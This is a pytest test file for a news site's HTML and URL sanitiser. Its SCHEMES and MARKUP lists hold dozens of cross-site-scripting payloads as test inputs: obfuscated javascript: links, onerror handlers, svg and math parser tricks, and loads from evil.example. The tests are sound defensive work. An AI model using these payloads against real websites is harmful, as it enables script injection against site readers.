"""The sanitiser: whatever is put in, what comes out can do nothing but be read."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import handpress
from handpress.lib.html import (
    PAGE_IDS,
    ROOT_MARK,
    SafeHtml,
    at_root,
    clean_html,
    clean_url,
    escape,
    visible_text,
)

OWN = "https://news.example/paper/"
NBSP, LINE, ZERO = "\u00a0", "\u2028", "\u200b"


class Reader(HTMLParser):
    """Reads HTML as a browser would, and notes whatever could act or load by itself."""

    FORBIDDEN = frozenset(
        "script style link meta base object embed iframe frame frameset applet form input button "
        "select textarea img image video audio source track svg math template noscript noembed "
        "xmp plaintext title portal isindex body html head".split()
    )
    HARMLESS = frozenset(
        "abbr cite colspan datetime dir headers href id lang open rel reversed rowspan scope span "
        "start title type value".split()
    )

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.FORBIDDEN or ":" in tag:
            self.faults.append(f"<{tag}>")
        if tag not in {"br", "hr", "wbr"}:
            self.open.append(tag)
        for name, value in attrs:
            if name not in self.HARMLESS:
                self.faults.append(f"{tag} {name}")
            if name in {"href", "cite"} and not leads_somewhere_safe(value or ""):
                self.faults.append(f"{tag} {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes what it did not open")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("an unknown declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("a processing instruction")


def leads_somewhere_safe(url: str) -> bool:
    """Judge an address as a browser reads it, knowing nothing of how it was cleaned."""
    seen = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    if seen.startswith(("#", ROOT_MARK)):
        return not seen.removeprefix(ROOT_MARK).startswith(("/", "\\"))
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", seen)
    return scheme is not None and scheme[1].lower() in {"http", "https", "mailto", "tel"}


def faults_of(html: str) -> list[str]:
    reader = Reader(html)
    return reader.faults + [f"<{tag}> is left open" for tag in reader.open]


SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \t\n javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjava\x00script:alert(1)",
    f"{NBSP}javascript:alert(1)",
    f"java{NBSP}script:alert(1)",
    f"{LINE}javascript:alert(1)",
    f"java{LINE}script:alert(1)",
    "\u2029javascript:alert(1)",
    f"{ZERO}javascript:alert(1)",
    f"java{ZERO}script:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    f"{ROOT_MARK}javascript:alert(1)",
    f"java{ROOT_MARK}script:alert(1)",
    f"{ROOT_MARK}//evil.example/",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x0006A;avascript&#58;alert(1)",
    "&Tab;java&NewLine;script:alert(1)",
    "java&#0;script:alert(1)",
    "javascript&#x3A;//%0aalert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "vbscript:msgbox(1)",
    "livescript:1",
    "data:text/html,<b onclick=alert(1)>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "blob:https://news.example/1",
    "filesystem:https://news.example/x",
    "about:blank",
    "file:///etc/passwd",
    "ftp://files.example/",
    "ws://evil.example/",
    "intent://scan/#Intent;end",
    "//evil.example/x",
    "/\t/evil.example/x",
    "/\n/evil.example/x",
    "\\\\evil.example",
    "https:evil.example",
    "https:///",
    "ｊavascript:alert(1)",
    "https://[::1",
    "",
    "#",
]


@pytest.mark.parametrize("url", SCHEMES)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_a_link_that_acts_is_no_link(url: str, quote: str):
    html = clean_html(f"<p><a href={quote}{url}{quote}>words</a></p>", own_address=OWN)
    assert "href" not in html, html
    assert visible_text(html) == "words"
    assert "cite" not in clean_html(f"<blockquote cite={quote}{url}{quote}>words</blockquote>")
    assert "cite" not in clean_html(f"<q cite={quote}{url}{quote}>words</q>")


MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='javascript:alert(1)'><param name=x></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,x'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css'; p{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example/x.png)'>words</p>",
    "<p style=\"width: expression(alert(1))\">words</p>",
    "<div class='masthead' style='position:fixed;inset:0'>words</div>",
    "<form action=//evil.example><input name=card><button>Give</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head><body background=//evil.example/>words</body></html>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<p onclick=alert(1) ONMOUSEOVER=alert(1) onfocus=alert(1) autofocus tabindex=0>words</p>",
    "<a href=https://a.example/ ping=//evil.example target=_blank onclick=alert(1) download>x</a>",
    "<a href='https://a.example/' rel='opener' referrerpolicy='unsafe-url'>x</a>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png><source onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<table background=//evil.example/x.png><tr><td background=javascript:alert(1)>x</table>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>words</marquee>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<!doctype html [<!entity x 'y'>]>&x;",
    "</p></div></article></main></body></html><script>alert(1)</script>",
    "<p>words<p>more<ul><li>one<li>two<table><tr><td>x",
    "<a href=https://a.example/>x<a href=javascript:alert(1)>y</a></a>",
    "<b><i><p><b><i></p><table><a href=javascript:alert(1)>x</a></table>",
    "<custom-element onclick=alert(1)><slot>x</slot></custom-element>",
    "<p xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></p>",
    "<a href='https://a.example/' style='display:block' class='x'>x</a>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p lang='\"onclick=alert(1) x=\"'>x</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>\ud800 half a pair \udc00</p>",
    "<p>\x00nul <sc\x00ript>alert(1)</sc\x00ript></p>",
    "<slot name=x><portal src=//evil.example></portal></slot>",
    "<ruby>漢<rp>(<rt onclick=alert(1)>kan<rp>)</ruby>",
    "<bdo dir=rtl onclick=x>words</bdo><bdi>x</bdi>",
]  # fmt: skip


@pytest.mark.parametrize("html", MARKUP)
def test_markup_that_acts_or_loads_is_gone(html: str):
    cleaned = clean_html(html, own_address=OWN)
    assert faults_of(cleaned) == [], cleaned
    assert clean_html(cleaned.replace(ROOT_MARK, OWN), own_address=OWN) == cleaned


def test_the_reader_of_these_tests_would_notice():
    assert faults_of("<p onclick=x>") == ["p onclick", "<p> is left open"]
    assert faults_of('<a href="javascript:1">x</a>')
    assert faults_of("<script></script><!-- x --></p>")
    assert faults_of(f'<a href="{ROOT_MARK}/evil.example">x</a>')


PIECES = st.sampled_from([*MARKUP, *(f"<a href='{url}'>" for url in SCHEMES)]) | st.text(max_size=8)


@given(st.lists(PIECES, max_size=6).map("".join), st.integers(0, 400))
@settings(deadline=None, max_examples=150)
def test_any_mixture_of_these_comes_out_harmless_and_stays_as_it_is(html: str, cut: int):
    for fragment in (html, html[cut:], html[:cut]):
        cleaned = clean_html(fragment, own_address=OWN)
        assert faults_of(cleaned) == [], cleaned
        assert clean_html(cleaned.replace(ROOT_MARK, OWN), own_address=OWN) == cleaned


# What stays -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<p>Two <b>words</b> and <em>more</em>, H<sub>2</sub>O, <code>x &lt; y</code></p>",
        "<h2>A head</h2><h3>and another</h3><hr><ul><li>one</li><li>two</li></ul>",
        '<ol start="3" reversed=""><li value="7">x</li></ol>',
        '<p lang="ar" dir="rtl">كلمات</p><p>한국어</p>',
        '<table><caption>C</caption><thead><tr><th scope="col">A</th></tr></thead>'
        '<tbody><tr><td colspan="2" rowspan="1">1</td></tr></tbody></table>',
        "<figure><figcaption>words</figcaption></figure><pre>a\n  b</pre>",
        "<details><summary>more</summary><p>words</p></details>",
        '<p><time datetime="2021-01-04">Monday</time> <abbr title="as told">a.t.</abbr></p>',
    ],
)
def test_what_a_text_is_made_of_stays(html: str):
    assert clean_html(html) == html


def test_a_page_has_one_first_heading_so_others_come_down_one():
    html = "<h1>A</h1><H1 id='b'>B</H1><h1\nlang=en>C</h1><h10>D</h10>"
    assert clean_html(html) == '<h2>A</h2><h2 id="b">B</h2><h2 lang="en">C</h2>D'


def test_no_break_and_other_spaces_stay():
    text = f"<p>war\u2009—\u2009a{NBSP}pause.{NBSP}</p>"
    assert visible_text(clean_html(text)) == visible_text(text)
    assert visible_text(clean_html(text)).endswith(f"pause.{NBSP}")


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("https://a.example/x?y=1#z", "https://a.example/x?y=1#z"),
        (" \n https://a.example/\n ", "https://a.example/"),
        ("https://a.exam\nple/", "https://a.example/"),
        ("HTTPS://A.example/", "HTTPS://A.example/"),
        ("mailto:desk@news.example", "mailto:desk@news.example"),
        ("tel:+4930123", "tel:+4930123"),
        ("#note-1", "#note-1"),
        ("https://a.example/my file.pdf", "https://a.example/my%20file.pdf"),
        ("https://a.example/a|b\\c\"d", "https://a.example/a%7Cb%5Cc%22d"),
        (f"https://a.example/a{NBSP}b{LINE}c", "https://a.example/a%C2%A0b%E2%80%A8c"),
        ("https://fa.example/می\u200cخواهم", "https://fa.example/می%E2%80%8Cخواهم"),
        ("https://ko.example/한국", "https://ko.example/한국"),
        ("https://a.example/%0Ajavascript:1", "https://a.example/%0Ajavascript:1"),
    ],
)  # fmt: skip
def test_addresses_elsewhere_stay_what_they_are(given: str, expected: str):
    assert clean_url(given, own_address=OWN) == expected


@pytest.mark.parametrize(
    ("given", "way"),
    [
        (OWN, ""),
        ("https://news.example/paper", ""),
        (f"{OWN}2019/11/x.html", "2019/11/x.html"),
        (f"{OWN}2019/11/x.html?a=1#b", "2019/11/x.html?a=1#b"),
        (f"{OWN}?page=2", "?page=2"),
        ("http://news.example/paper/x", "x"),
        ("https://NEWS.example/paper/x", "x"),
        ("/paper/topics/", "topics/"),
        ("/topics/", "topics/"),
        ("/", ""),
        ("/#top", "#top"),
        (f"{OWN}a/../b/./c", "b/c"),
        (f"{OWN}../../../x", "x"),
        ("/../../x/..", ""),
        ("/a/%2e%2E/b/..", ""),
        ("/a/b/.", "a/b/"),
        (f"{OWN}/evil.example", "evil.example"),
        (f"{OWN}\\\\evil.example", "%5C%5Cevil.example"),
        ("/\\evil.example", "%5Cevil.example"),
        ("/a:b", "a:b"),
        ("/javascript:1", "javascript:1"),
    ],
)
def test_addresses_within_the_site_become_ways_from_its_root(given: str, way: str):
    assert clean_url(given, own_address=OWN) == ROOT_MARK + way
    for root in ("./", "../../", "/"):
        link = at_root(clean_html(f'<a href="{given}">x</a>', own_address=OWN), root)
        assert f'href="{escape(root + way)}"' in link


@pytest.mark.parametrize(
    "given",
    [
        "https://news.example.evil.example/paper/x",
        "https://evil.example/https://news.example/paper/",
        "https://news.example/papers",
        "https://news.example:8443/paper/x",
        "https://news.example@evil.example/paper/x",
    ],
)
def test_what_only_looks_like_the_own_address_is_elsewhere(given: str):
    assert clean_url(given, own_address=OWN) == given


def test_without_an_address_of_its_own_only_rooted_links_are_the_sites():
    assert clean_url("/topics/") == f"{ROOT_MARK}topics/"
    assert clean_url("https://news.example/") == "https://news.example/"


def test_nobody_but_the_sanitiser_writes_the_root_mark():
    html = f"<p>{ROOT_MARK}words <a href='{ROOT_MARK}x' title='{ROOT_MARK}'>y</a></p>"
    assert ROOT_MARK not in clean_html(html)
    assert at_root(clean_html(html), "../../").startswith("<p>words ")


# Ids --------------------------------------------------------------------------------------


def test_no_article_takes_the_name_of_a_part_of_the_page():
    templates = Path(handpress.__file__).parent / "themes" / "broadsheet" / "templates"
    # Forms, mails and editions hold no article's own HTML.
    others = {"giving", "readers", "mail", "letters"}
    files = [file for file in templates.rglob("*.html") if file.parent.name not in others]
    texts = [file.read_text() for file in files if file.name != "edition.html"]
    used = {name for text in texts for name in re.findall(r'\bid="([^"{]+)"', text)}
    assert "main" in used
    assert used <= PAGE_IDS
    for name in used:
        assert clean_html(f'<p id="{name}">x</p>') == "<p>x</p>"


@pytest.mark.parametrize("name", ["note-1", "a.b", "fn:3", "Kapitel_2"])
def test_what_footnotes_lead_to_stays(name: str):
    html = f'<p><a href="#{name}" rel="noopener noreferrer">1</a></p><p id="{name}">x</p>'
    assert clean_html(html) == html


@pytest.mark.parametrize("name", ["", "1", "-x", "a b", "a'b", "x" * 65, "<b>", "a\n"])
def test_odd_ids_go(name: str):
    assert clean_html(f'<p id="{escape(name)}">x</p>') == "<p>x</p>"


# Text -------------------------------------------------------------------------------------


def test_escaping_makes_text_html():
    assert escape("<a & \"b\" 'c'>") == "&lt;a &amp; &quot;b&quot; &#x27;c&#x27;&gt;"
    assert isinstance(escape("x"), SafeHtml)
    assert SafeHtml("<b>").__html__() == "<b>"


def test_visible_text_is_what_a_reader_sees():
    html = (
        f"<p>One &amp;\n two</p><script>alert(1)</script><style>p{{}}</style><p>a{NBSP}b&nbsp;</p>"
    )
    assert visible_text(html).startswith("One & two")
    assert "alert" not in visible_text(html)
    assert visible_text(html).endswith(f"a{NBSP}b{NBSP}")
